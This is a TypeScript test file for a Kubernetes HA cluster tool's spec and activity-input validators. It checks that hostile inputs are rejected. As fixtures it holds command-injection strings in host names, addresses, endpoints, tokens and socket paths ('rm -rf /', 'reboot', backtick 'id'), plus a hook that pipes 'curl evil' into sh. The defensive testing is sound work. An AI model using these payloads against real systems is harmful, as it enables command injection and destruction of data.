import { readdirSync } from 'node:fs';
import path from 'node:path';
import { loadSpecFile, parseSpec } from '../../../src/spec/load';
import { clusterSettingsWireSchema, clusterSpecWireSchema, wireProblems } from '../../../src/spec/wire';
import { clusterSettings } from '../../../src/spec/hosts';
import type { ClusterSpec } from '../../../src/spec/types';
import { activityInputProblems } from '../../../src/worker/validate-activity-input';
import { pinToday } from '../../helpers/today';

pinToday();

const EXAMPLES = path.join(__dirname, '..', '..', '..', 'examples');

async function example(): Promise<ClusterSpec> {
  return (await loadSpecFile(path.join(EXAMPLES, 'ha-3-masters.yaml'))).spec;
}

it('accepts every spec kubeha itself produces from the examples', async () => {
  const files = readdirSync(EXAMPLES).filter((f) => f.endsWith('.yaml'));
  expect(files.length).toBeGreaterThan(1);
  for (const f of files) {
    const { spec } = await loadSpecFile(path.join(EXAMPLES, f));
    expect({ f, problems: wireProblems(clusterSpecWireSchema, spec) }).toEqual({ f, problems: [] });
    expect({ f, problems: wireProblems(clusterSettingsWireSchema, clusterSettings(spec)) }).toEqual({ f, problems: [] });
  }
});

it('refuses what only a hand-made input could carry: shell syntax, newlines, unknown fields, no control plane', async () => {
  const spec = await example();
  const host = spec.hosts[0] as ClusterSpec['hosts'][number];
  const cases: [string, unknown, RegExp][] = [
    ['host name', { ...spec, hosts: [{ ...host, name: 'x$(touch /tmp/p)x' }, ...spec.hosts.slice(1)] }, /hosts\.0\.name/],
    ['address', { ...spec, hosts: [{ ...host, address: '10.0.0.1\nrm -rf /' }, ...spec.hosts.slice(1)] }, /hosts\.0\.address/],
    ['endpoint', { ...spec, controlPlaneEndpoint: 'x`id`x:6443' }, /controlPlaneEndpoint/],
    ['extra arg', { ...spec, extraArgs: { ...spec.extraArgs, apiServer: { 'audit-log-path': '/x; reboot' } } }, /extraArgs/],
    ['unknown field', { ...spec, hooks: { preInit: 'curl evil | sh' } }, /hooks|Unrecognized/],
    ['no control plane', { ...spec, hosts: spec.hosts.filter((h) => h.role !== 'control-plane') }, /no control-plane host/],
    ['duplicate', { ...spec, hosts: [...spec.hosts, host] }, /appears twice/],
  ];
  for (const [what, value, expected] of cases) expect({ what, problems: wireProblems(clusterSpecWireSchema, value).join('\n') }).toEqual({ what, problems: expect.stringMatching(expected) });
});

it('activity inputs: credentials, names and files are checked against their formats', async () => {
  const spec = await example();
  const cluster = clusterSettings(spec);
  const host = spec.hosts[1];
  const token = { token: 'abcdef.0123456789abcdef', caCertHash: `sha256:${'a'.repeat(64)}`, expiresAt: '' };
  expect(activityInputProblems({ cluster, host, as: 'worker', token })).toEqual([]);
  expect(activityInputProblems({ cluster, host, as: 'worker', token: { ...token, token: "x'; reboot; '" } })).toEqual(['token: not a bootstrap token with a sha256 CA hash']);
  expect(activityInputProblems({ cluster, host, tokenIds: ['abcdef'], certificateSecret: true, files: ['/etc/kubernetes/admin.conf'] })).toEqual(['files: only files directly in /etc/kubeha may be removed']);
  expect(activityInputProblems({ cluster, host, as: 'root' })).toEqual(['as: neither control-plane nor worker']);
  expect(activityInputProblems('hello')).toEqual(['the input is not an object']);
  expect(activityInputProblems({ cluster: { ...cluster, criSocket: 'unix:///run/x.sock;id' }, host }).join()).toMatch(/cluster\.criSocket/);
});

it('a CNI manifest file must come with its sha256', async () => {
  const text = (extra: string) => `apiVersion: kubeha.io/v1alpha1
kind: Cluster
metadata: { name: c }
spec:
  kubernetesVersion: v1.30.2
  controlPlaneEndpoint: 10.0.0.10:6443
  loadBalancer: { type: external }
  networking: { podSubnet: 10.244.0.0/16, serviceSubnet: 10.96.0.0/12, cni: my-cni.yaml${extra} }
  hosts:
    - { name: cp1, address: 10.0.0.1, role: control-plane }
`;
  const problems = (() => {
    try {
      parseSpec(text(''), 'c.yaml');
      return [];
    } catch (e) {
      return (e as { problems?: string[] }).problems ?? [String(e)];
    }
  })();
  expect(problems).toEqual([expect.stringMatching(/^c\.yaml:8:\d+: .*networking\.cniSha256/)]);
  expect(parseSpec(text(`, cniSha256: ${'a'.repeat(64)}`), 'c.yaml').spec.networking.cniSha256).toBe('a'.repeat(64));
});
